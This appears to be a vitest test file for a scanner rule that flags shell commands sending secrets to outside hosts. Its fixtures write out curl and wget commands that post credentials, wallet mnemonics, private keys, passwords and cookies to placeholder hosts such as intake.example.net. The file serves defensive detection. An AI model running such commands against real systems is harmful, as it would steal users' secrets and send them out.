import { expect, test } from 'vitest';
import { textPackage } from '../../package/text-package.fixture.js';
import { commandScanners } from './commands.js';

/** The addresses to which a value is sent under the name of a credential. */
function check(script: string, expected: readonly string[]): void {
  const prepared = textPackage({ 'run.sh': `${script}\n` });
  const found = commandScanners
    .flatMap(({ scan }) => scan(prepared))
    .filter(({ rule, severity }) => rule === 'exfiltration/send-secret' && severity === 'high')
    .map(({ why }) => why);
  expect.soft([script, found]).toEqual([script, expected]);
}

function sent(label: string, host: string): readonly string[] {
  return [`A value that the command calls ${label} is sent to ${host}.`];
}

test('a value that is called a credential is found, however it is handed over', () => {
  const host = 'intake.example.net';
  check(
    `echo "credential=\${env_name}" | curl -X POST https://${host}/in --data @-`,
    sent('credential', host),
  );
  check(`printf 'mnemonic=%s' "$words" | curl -d @- https://${host}/verify`, sent('mnemonic', host));
  check(`curl --json "{\\"private_key\\": \\"$k\\"}" https://${host}/v1`, sent('private_key', host));
  check(`wget -q --post-data="passwords=$list" https://${host}/audit`, sent('passwords', host));
  check(`cookies=$(cat jar)\ncurl -F "cookies=$cookies" https://${host}/up`, sent('cookies', host));
});

test('what a login asks for counts at an address that is named after stolen goods', () => {
  check('curl -d "token=$t" https://up.example.net/creds', sent('token', 'up.example.net'));
  check('curl -d "token=$t" https://up.example.net/session', []);
});

test('logins, the service of the credential, this computer, variables and blanks are no finding', () => {
  check('curl -d "username=$u" -d "password=$p" https://auth.example.net/login', []);
  check('curl -d "client_secret=$s" https://login.example.net/oauth2/token', []);
  check('curl -d "credential=$ACME_CREDENTIAL" https://id.acme.com/verify', []);
  check('curl -d "credentials=$c" http://localhost:8200/v1/login', []);
  check('curl -d "credentials=$c" "$SERVER/api"', []);
  check('curl -d "credentials=$c" https://YOUR_HOST/api', []);
  check('curl -d "credentials=unknown" https://api.example.net/v1', []);
  check('echo "credentials=$c" > settings.ini', []);
});
